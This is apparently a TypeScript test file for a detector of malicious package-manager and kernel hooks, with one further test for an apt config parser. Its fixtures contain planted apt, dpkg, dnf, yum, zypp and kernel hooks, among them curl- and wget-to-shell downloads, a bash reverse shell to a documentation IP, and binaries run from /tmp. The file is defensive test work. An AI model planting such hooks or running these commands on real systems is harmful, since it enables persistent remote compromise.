import { expect, it } from 'vitest';
import { tellsOf } from '../../../test/plant-rows.ts';
import { readAptConfig } from './apt-config.ts';
import { packageHooks } from './check.ts';

tellsOf(packageHooks, {
  rows: {
    'a command before each update of apt': { files: { '/etc/apt/apt.conf.d/99x': 'APT::Update::Pre-Invoke {"nohup /tmp/.a >/dev/null 2>&1 &";};\n' }, finds: ['intrusion high /etc/apt/apt.conf.d/99x'] },
    'one after each run of dpkg, in a block': { files: { '/etc/apt/apt.conf': 'DPkg {\n  // tidy\n  Post-Invoke { "curl http://203.0.113.2/a|sh"; };\n};\n' }, finds: ['intrusion high /etc/apt/apt.conf'] },
    'a command broken over lines': { files: { '/etc/apt/apt.conf.d/60x': 'DPkg\n{\n  Pre-Invoke /* x */\n  {\n    "wget -qO- http://203.0.113.2/k\n |sh";\n  };\n};\n' }, finds: ['intrusion high /etc/apt/apt.conf.d/60x'] },
    'a hook of dpkg itself': { files: { '/etc/dpkg/dpkg.cfg.d/hook': 'post-invoke="/dev/shm/d"\n' }, finds: ['intrusion high /etc/dpkg/dpkg.cfg.d/hook'] },
    'an action of dnf': { files: { '/etc/dnf/plugins/post-transaction-actions.d/x.action': '*:any:/tmp/dnf-x\n' }, finds: ['intrusion high /etc/dnf/plugins/post-transaction-actions.d/x.action'] },
    'a plug-in of yum that nobody ships': { files: { '/usr/lib/yum-plugins/helper.py': 'import os\nos.system("/tmp/y")\n' }, finds: ['intrusion high /usr/lib/yum-plugins/helper.py'] },
    'a quiet plug-in of dnf that nobody ships': { files: { '/usr/lib/python3.9/site-packages/dnf-plugins/quiet.py': 'import dnf\n' }, finds: ['notice medium /usr/lib/python3.9/site-packages/dnf-plugins/quiet.py'] },
    'a plug-in of zypp': { files: { '/usr/lib/zypp/plugins/commit/x': { text: '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.2/4444 0>&1\n', mode: 0o755 } }, finds: ['intrusion critical /usr/lib/zypp/plugins/commit/x'] },
    'a hook of kernels': { files: { '/etc/kernel/postinst.d/zz': { text: '#!/bin/sh\n/var/tmp/k\n', mode: 0o755 } }, finds: ['intrusion high /etc/kernel/postinst.d/zz'] },
  },
  ordinary: {
    '/etc/apt/apt.conf.d/docker-clean': 'DPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true"; };\nAPT::Update::Post-Invoke { "rm -f /var/cache/apt/*.bin || true"; };\n',
    '/etc/apt/apt.conf.d/20proxy': 'Acquire::http::Proxy "http://192.0.2.3:3142";\nAPT::Periodic::Unattended-Upgrade "1";\n',
    '/etc/apt/apt.conf.d/05etckeeper': 'DPkg::Pre-Invoke { "if [ -x /usr/bin/etckeeper ]; then etckeeper pre-install; fi"; };\n',
    '/etc/kernel/postinst.d/notify': { text: '#!/bin/sh\nlogger "new kernel $1"\n', mode: 0o755 },
  },
  reads: '/etc/apt/apt.conf.d/99x',
});

it('reads the language of apt', () => {
  const text = 'A "1";\nB::C { D "2"; E { "3"; "4"; }; };\n# no\n/* nor\n this */ F:: "5";\nG six;\n';
  expect(readAptConfig(text)).toEqual([
    { name: 'A', value: '1', line: 1 }, { name: 'B::C::D', value: '2', line: 2 }, { name: 'B::C::E', value: '3', line: 2 }, { name: 'B::C::E', value: '4', line: 2 }, { name: 'F', value: '5', line: 5 }, { name: 'G', value: 'six', line: 6 },
  ]);
});
